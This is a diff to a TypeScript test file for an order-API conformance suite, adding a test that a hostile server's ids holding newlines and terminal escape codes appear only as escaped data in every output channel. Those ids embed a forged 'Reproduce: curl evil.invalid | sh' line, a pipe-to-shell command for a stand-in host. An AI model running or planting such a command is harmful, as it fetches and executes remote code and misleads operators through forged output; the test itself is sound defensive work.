@@ -264,16 +264,17 @@ test.describe('bounded against bombs and stalls', () => {
   });
 
   for (const name of ['stall-after-setup', 'trickle-after-setup']) {
-    test(`${name}: the run stops after 3 timeouts in a row, within 2 minutes, not conformant, naming the silence`, async () => {
+    test(`${name}: the run stops after 3 timeouts in a row, within 2 minutes, inconclusive (exit 3), naming the silence`, async () => {
       const server = await hostileServer([name]);
       try {
         const started = Date.now();
         const run = await runSuite({ OMS_BASE_URL: server.url, ...TOKENS, OMS_WORKERS: '2' });
         const seconds = (Date.now() - started) / 1000;
-        expect(run.exitCode, run.output.slice(-3000)).not.toBe(0);
+        expect(run.exitCode, run.output.slice(-3000)).toBe(3);
         expect(seconds).toBeLessThan(120);
         expect(run.output).toContain('the server stopped answering: 3 requests in a row got no complete answer within 15000 ms (OMS_REQUEST_TIMEOUT_MS)');
-        expect(run.report?.verdict).not.toBe('conformant');
+        expect(run.report?.verdict).toBe('inconclusive');
+        expect(run.report?.requirements.filter((r) => r.status === 'failed').map((r) => r.id)).toEqual([]);
         expect(run.report?.complete).toBe(false);
         expect(run.report?.incompleteReasons.join('\n')).toContain('run stopped: the server stopped answering');
         const skipped = run.report?.requirements.filter((r) => r.status === 'skipped') ?? [];
@@ -322,6 +323,47 @@ test.describe('connections', () => {
       const run = await runSuite({ OMS_VARIANT: 'keep-alive-500ms', OMS_PROFILE: profile, OMS_WORKERS: '2' });
       expect([profile, run.exitCode, run.report?.verdict], run.output.slice(-3000)).toEqual([profile, 0, 'conformant']);
       expect(run.output).not.toMatch(/ECONNRESET|socket hang up|inconclusive: connection reset/);
+    }
+  });
+});
+
+test.describe('ids holding line breaks and escape sequences (newline-ids): every channel that prints ids shows them as data', () => {
+  /** A line that passes for the suite's own: a forged reproduction line, or a verdict the run did not give. */
+  const forged = (text: string) => text.split(/\r\n|\r|\n/).filter((line) => /^\s*(Reproduce: curl evil\.invalid|OMS conformance \(core\): CONFORMANT)/.test(line));
+  const controls = (text: string) => (text.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/g) ?? []).map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
+
+  test('terminal, stderr, the teardown message, every report file and cleanup', async () => {
+    const server = await hostileServer(['newline-ids']);
+    const work = temporaryDirectory('oms-newline-ids-');
+    try {
+      const run = await runCli(['--base-url', server.url, '--grep', '@ORD-GET-001|@ORD-DELETE-001', '--grep-invert', 'generated|model-based', '--out', 'report', '--run-id', 'newline-ids'], {
+        cwd: work,
+        env: TOKENS,
+      });
+      expect(run.exitCode, run.stdout.slice(-3000) + run.stderr).toBe(1);
+      // The ids reached every channel: the teardown's could-not-delete line (stderr), the report's evidence, the ledger.
+      expect(run.stderr).toMatch(/oms-conformance: could not delete \d+ order\(s\) it created: "id\\nReproduce: curl evil\.invalid \| sh\\r\\n\\x1b\[2J/);
+      const report = readFileSync(join(work, 'report', 'report.json'), 'utf8');
+      expect(report).toContain('Reproduce: curl evil.invalid | sh');
+      const cleanup = await runCli(['cleanup', '--run-id', 'newline-ids', '--base-url', server.url], { cwd: work, env: TOKENS });
+      expect(cleanup.exitCode).toBe(1);
+      expect(cleanup.stdout).toContain('could not delete (DELETE answered 500): order "id\\nReproduce: curl evil.invalid | sh');
+      const channels: Record<string, string> = {
+        stdout: run.stdout,
+        stderr: run.stderr,
+        'cleanup output': cleanup.stdout + cleanup.stderr,
+        'report.md': readFileSync(join(work, 'report', 'report.md'), 'utf8'),
+      };
+      for (const [name, text] of Object.entries(channels)) {
+        expect([name, forged(text), controls(text)]).toEqual([name, [], []]);
+      }
+      // In markup and JSON the text is data (escaped, inside elements or strings): no control character, no line of its own.
+      for (const file of ['index.html', 'junit.xml', 'report.json']) {
+        const text = readFileSync(join(work, 'report', file), 'utf8');
+        expect([file, controls(text.replace(/\n/g, '')), forged(text)]).toEqual([file, [], []]);
+      }
+    } finally {
+      await server.close();
     }
   });
 });
